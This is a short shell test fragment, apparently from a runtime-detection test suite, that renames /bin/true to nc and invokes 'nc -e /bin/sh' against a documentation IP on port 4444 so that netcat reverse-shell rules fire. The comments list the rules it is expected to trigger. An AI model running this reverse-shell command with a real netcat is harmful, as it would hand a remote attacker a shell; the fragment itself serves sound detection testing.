# netcat running a shell on a connection (a copy of true named nc: the
# command line is what matters, no connection is made).
# default: pdig netcat remote code execution = 1 ~ command=nc -e /bin/sh
# falco: Netcat Remote Code Execution in Container = 1
# incubating: Launch Suspicious Network Tool in Container = 1 ~ command=nc -e /bin/sh
run() {
	cp /bin/true "$W/nc" && "$W/nc" -e /bin/sh 198.51.100.1 4444
}
